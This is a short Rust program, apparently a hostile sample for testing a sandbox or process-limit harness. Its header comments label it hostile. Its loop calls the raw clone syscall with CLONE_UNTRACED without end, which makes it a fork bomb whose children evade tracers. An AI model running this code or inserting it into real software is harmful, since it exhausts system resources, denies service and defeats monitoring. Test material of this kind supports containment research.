// hostile: forks for ever, and asks the kernel to tell no tracer (CLONE_UNTRACED)
// verdict: swarm or endless
// leaves: processes
// layers: L0
// control: never

unsafe extern "C" {
    safe fn syscall(number: i64, ...) -> i64;
}

fn main() {
    const CLONE: i64 = 56;
    const CLONE_UNTRACED: i64 = 0x0080_0000;
    const SIGCHLD: i64 = 17;
    loop {
        syscall(CLONE, CLONE_UNTRACED | SIGCHLD, 0_i64, 0_i64, 0_i64, 0_i64);
    }
}
